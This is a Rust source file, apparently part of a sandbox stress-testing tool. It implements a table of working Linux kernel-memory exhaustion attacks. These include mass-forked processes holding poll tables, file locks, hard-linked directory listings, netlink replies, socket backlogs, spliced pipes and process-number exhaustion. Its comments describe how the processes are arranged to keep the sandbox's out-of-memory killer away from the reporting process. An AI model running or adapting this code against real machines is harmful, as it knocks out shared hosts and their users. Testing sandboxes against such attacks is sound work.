//! Attacks that hold the kernel's memory rather than their own: what a process waits with, its locks, its listings, its
//! sockets' queues. Each takes what it can get, says `set`, and stays.

use linux_raw_sys::general as raw;
use rustix::{
    fs::{CWD, FileType, Mode, OFlags},
    io::Result,
    net::{AddressFamily, SocketType, socket},
};
use shim::{say, say::Text, sys::Start};

use crate::{
    bombs::{pause, set},
    call::{Table, c, call, call3, fork, number, open},
};

pub const ATTACKS: Table = &[
    // about 400 KiB each with the process: a sandbox of 64 MiB holds them, and its killer does not begin
    ("poll_wait", |_| held(100, Has::Waiting, poll)),
    ("poll_bomb", |_| {
        set();
        held(PROCESSES, Has::Waiting, poll)
    }),
    ("lock_fill", |_| held(6, Has::Done, locks)),
    ("link_list", |_| held(1, Has::Done, list)),
    ("name_wait", |_| held(PROCESSES, Has::Waiting, name)),
    ("control_wait", |_| held(300, Has::Waiting, control)),
    ("netlink_fill", |_| held(2, Has::Done, netlink)),
    ("cork_fill", |_| held(2, Has::Done, cork)),
    ("backlog_fill", |_| held(1, Has::Done, backlog)),
    ("splice_fill", |_| held(2, Has::Done, splice)),
    ("number_fill", numbers),
];

/// Fewer than a user of a machine of 256 MiB may have.
const PROCESSES: u32 = 470;
/// Open files of a process: the hard limit that the kernel gives.
const FILES: u64 = 4096;
/// Three numbers each of as many tasks, of two users together, are all 32,768 that a small machine gives by default.
const NUMBERS: u32 = 5600;
/// Bytes that every process maps and all share.
const WEIGHT: usize = 1 << 20;
const FIFO: &core::ffi::CStr = c"/tmp/fifo";

/// When a process has what it takes: as it goes to wait in the kernel, or when it is done.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Has {
    Waiting,
    Done,
}

/// What `hold` takes in so many processes, each of which stays. Whom the killer of the sandbox takes is replaced by nobody.
fn held(processes: u32, has: Has, hold: fn(u32)) -> Result<()> {
    let _ = rustix::fs::mknodat(CWD, FIFO, FileType::Fifo, Mode::RWXU, 0);
    let (read, write) = rustix::pipe::pipe()?;
    let pause_for = |seconds| {
        let _ = rustix::thread::nanosleep(&rustix::thread::Timespec { tv_sec: seconds, tv_nsec: 0 });
    };
    // MAP_SHARED, MAP_ANONYMOUS: nothing that could be written back, so it stays in memory
    let weight = call(raw::__NR_mmap, [0, WEIGHT, 3, 0x21, usize::MAX, 0])?;
    // the meter says meanwhile what there was before
    pause_for(5);
    for process in 0..processes {
        if let Ok(None) = fork() {
            let limit = [FILES, FILES];
            let _ = call(raw::__NR_prlimit64, [0, 7, limit.as_ptr() as usize, 0, 0, 0]); // RLIMIT_NOFILE
            // the sandbox's killer takes the largest: these, by pages that all share, and not whoever says `set`
            let _ = call3(raw::__NR_madvise, weight, WEIGHT, 23); // MADV_POPULATE_WRITE
            let end = number(&write);
            if has == Has::Waiting {
                let _ = call3(raw::__NR_close, end, 0, 0);
            }
            hold(process);
            if has == Has::Done {
                let _ = call3(raw::__NR_close, end, 0, 0);
            }
            pause()
        }
    }
    drop(write);
    // until the last one has closed its end, or is gone
    let _ = rustix::io::read(&read, &mut [0; 1]);
    pause_for(4);
    set();
    pause()
}

/// A page of the kernel's for each 63 descriptors that are waited for (fs/select.c, `struct poll_table_page`).
fn poll(_: u32) {
    let Ok(fifo) = open(FIFO, OFlags::RDWR | OFlags::NONBLOCK) else { return };
    let one = number(&fifo) as u64 | 2 << 32; // struct pollfd, POLLPRI
    let all = [one; FILES as usize];
    let _ = call(raw::__NR_ppoll, [all.as_ptr() as usize, all.len(), 0, 0, 8, 0]);
}

/// 300 locks of one byte in each of 3,800 open files.
fn locks(process: u32) {
    for file in 0..3800_u32 {
        let mut path = Text::new();
        say!(&mut path, "/tmp/lock", file % 500, "\0");
        let Ok(fd) = open(c(&path), OFlags::RDWR | OFlags::CREATE) else { return };
        for lock in 0..300_u64 {
            let start = u64::from(process) << 40 | u64::from(file) << 16 | lock << 1;
            let lock = [1, start, 1, 0]; // struct flock: F_WRLCK, SEEK_SET; start; length
            if call3(raw::__NR_fcntl, number(&fd), 6, lock.as_ptr() as usize).is_err() {
                return;
            }
        }
        core::mem::forget(fd);
    }
}

/// A list of 8,000 names for each of 40 open folders: a merged one, which changes after each call. One folder with as many
/// names in all is the same, but takes minutes to make.
fn list(_: u32) {
    let mut from = Text::new();
    for number in 0..8000_u32 {
        let mut path = Text::new();
        say!(&mut path, "/lib/", number, "-");
        // a name is at most 255 bytes long
        while path.len() < 250 {
            say!(&mut path, "-");
        }
        say!(&mut path, "\0");
        if number == 0 {
            let _ = open(c(&path), OFlags::WRONLY | OFlags::CREATE);
            from = path;
        } else if rustix::fs::linkat(CWD, c(&from), CWD, c(&path), rustix::fs::AtFlags::empty()).is_err() {
            break;
        }
    }
    for _ in 0..40 {
        let Ok(folder) = open(c"/lib", OFlags::RDONLY | OFlags::DIRECTORY) else { return };
        let mut names = [0_u8; 512];
        let _ = call3(raw::__NR_getdents64, number(&folder), names.as_mut_ptr() as usize, names.len());
        core::mem::forget(folder);
        let _ = rustix::fs::mkdirat(CWD, c"/lib/new", Mode::RWXU);
        let _ = rustix::fs::unlinkat(CWD, c"/lib/new", rustix::fs::AtFlags::REMOVEDIR);
    }
}

/// A path of 4 KiB, for as long as nobody writes to the FIFO.
fn name(_: u32) {
    let mut path = [b'/'; 4090];
    if let Some(end) = path.last_chunk_mut() {
        *end = *b"/tmp/fifo\0";
    }
    let _ = call(raw::__NR_openat, [0, path.as_ptr() as usize, 0, 0, 0, 0]);
}

/// Control data of a message that waits for room in the queue.
fn control(_: u32) {
    const LENGTH: usize = 100 << 10;
    // struct cmsghdr: a level that no family reads
    let mut data = [0_usize; LENGTH / 8];
    if let Some(head) = data.first_chunk_mut() {
        *head = [LENGTH, 77];
    }
    let mut pair = [0_u32; 2];
    let _ = call(raw::__NR_socketpair, [1, 2, 0, pair.as_mut_ptr() as usize, 0, 0]); // AF_UNIX, SOCK_DGRAM
    let socket = pair[0] as usize;
    while call(raw::__NR_sendto, [socket, pair.as_ptr() as usize, 1, 0x40, 0, 0]).is_ok() {} // MSG_DONTWAIT
    let vector = [pair.as_ptr() as usize, 1];
    let message = [0, 0, vector.as_ptr() as usize, 1, data.as_ptr() as usize, LENGTH, 0]; // struct msghdr
    let _ = call3(raw::__NR_sendmsg, socket, message.as_ptr() as usize, 0);
}

/// Answers that nobody reads.
fn netlink(_: u32) {
    while let Ok(socket) = socket(AddressFamily::NETLINK, SocketType::RAW, None) {
        // struct nlmsghdr: 32 bytes, RTM_GETLINK, NLM_F_REQUEST; struct ifinfomsg: the first interface
        let request = [32_u32, 0x0001_0012, 1, 0, 0, 1, 0, 0];
        for _ in 0..1000 {
            if call(raw::__NR_sendto, [number(&socket), request.as_ptr() as usize, 32, 0x40, 0, 0]).is_err() {
                break;
            }
        }
        core::mem::forget(socket);
    }
}

/// Datagrams that wait for more of them.
fn cork(_: u32) {
    let data = [0_u8; 60_000];
    while let Ok(socket) = socket(AddressFamily::INET, SocketType::DGRAM, None) {
        let address = inet(9, 1);
        // MSG_MORE, MSG_DONTWAIT
        let (data, address) = ([data.as_ptr() as usize, data.len()], address.as_ptr() as usize);
        let _ = call(raw::__NR_sendto, [number(&socket), data[0], data[1], 0x8040, address, 16]);
        core::mem::forget(socket);
    }
}

/// struct sockaddr_in: a port of 127.0.0.0/24.
fn inet(port: u16, host: u8) -> [u8; 16] {
    let [high, low] = port.to_be_bytes();
    [2, 0, high, low, 127, 0, 0, host, 0, 0, 0, 0, 0, 0, 0, 0]
}

/// Connections that nobody accepts, and whose other end is gone.
fn backlog(_: u32) {
    for port in 2000..2040 {
        let Ok(listener) = socket(AddressFamily::INET, SocketType::STREAM, None) else { return };
        let address = inet(port, 1);
        let _ = call3(raw::__NR_bind, number(&listener), address.as_ptr() as usize, 16);
        let _ = call3(raw::__NR_listen, number(&listener), 4096, 0);
        for _ in 0..4000 {
            let Ok(client) = socket(AddressFamily::INET, SocketType::STREAM, None) else { return };
            if call3(raw::__NR_connect, number(&client), address.as_ptr() as usize, 16).is_err() {
                break;
            }
            let _ = call3(raw::__NR_shutdown, number(&client), 2, 0);
        }
        core::mem::forget(listener);
    }
}

/// Pages that no file has, in pipes.
fn splice(_: u32) {
    let Ok(zero) = open(c"/dev/zero", OFlags::RDONLY) else { return };
    while let Ok((read, write)) = rustix::pipe::pipe() {
        // SPLICE_F_NONBLOCK
        while call(raw::__NR_splice, [number(&zero), 0, number(&write), 0, 1 << 16, 2]).is_ok_and(|bytes| bytes > 0) {}
        core::mem::forget((read, write));
    }
}

/// As many tasks as there can be, each of which keeps two more numbers from being given out again: those of its session and
/// of its group, whose first processes are gone.
fn numbers(_: Start) -> Result<()> {
    for _ in 0..NUMBERS {
        match fork() {
            Ok(None) => {
                let _ = rustix::process::setsid();
                if let Ok(None) = fork() {
                    let _ = rustix::process::setpgid(None, None);
                    if let Ok(None) = fork() {
                        pause()
                    }
                }
                shim::sys::exit(0)
            }
            Ok(Some(child)) => drop(crate::call::wait(child)),
            Err(_) => break,
        }
    }
    set();
    pause()
}
